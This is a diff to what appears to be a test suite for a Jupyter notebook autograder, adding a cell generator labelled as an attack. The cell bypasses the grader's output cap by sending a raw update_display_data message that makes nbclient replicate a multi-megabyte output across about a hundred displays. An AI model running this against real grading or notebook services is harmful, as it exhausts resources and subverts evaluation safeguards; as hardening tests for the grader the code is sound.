@@ -861,3 +861,25 @@ def privilege_cells() -> list[Cell]:
         "      'cap_bounding': status.get('CapBnd', '').strip(), 'cap_effective': status.get('CapEff', '').strip(),\n"
         "      'setuid_programs_in_effect': sorted(set(effective))[:40]}))",
     ]
+
+
+_DISPLAY_ID_FAN_OUT = r'''
+from IPython.display import display
+from jupyter_client.session import Session
+
+kernel = get_ipython().kernel
+parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
+for _ in range({outputs}):
+    display({{"text/plain": "."}}, raw=True, display_id="fan-out")  # tiny, counted: well under every cap
+# One update (sent past the prelude's cap) rewrites every output with that display_id: the grader's
+# nbclient applies it before its own cap sees the message, and the executed notebook repeats it per output.
+Session.send(kernel.session, kernel.iopub_socket, "update_display_data",
+             {{"data": {{"text/plain": "u" * {chars}}}, "metadata": {{}}, "transient": {{"display_id": "fan-out"}}}},
+             parent=parent, ident=b"update_display_data")
+print("ATTACK-DISPLAY-ID", {outputs}, {chars})
+'''
+
+
+def display_id_fan_out_cells(outputs: int = 100, chars: int = 4_000_000) -> list[Cell]:
+    """``outputs`` tiny displays sharing one display_id, then one uncounted update of ``chars`` characters."""
+    return [*CORRECT_2A, _DISPLAY_ID_FAN_OUT.format(outputs=outputs, chars=chars), "after_fan_out = True"]
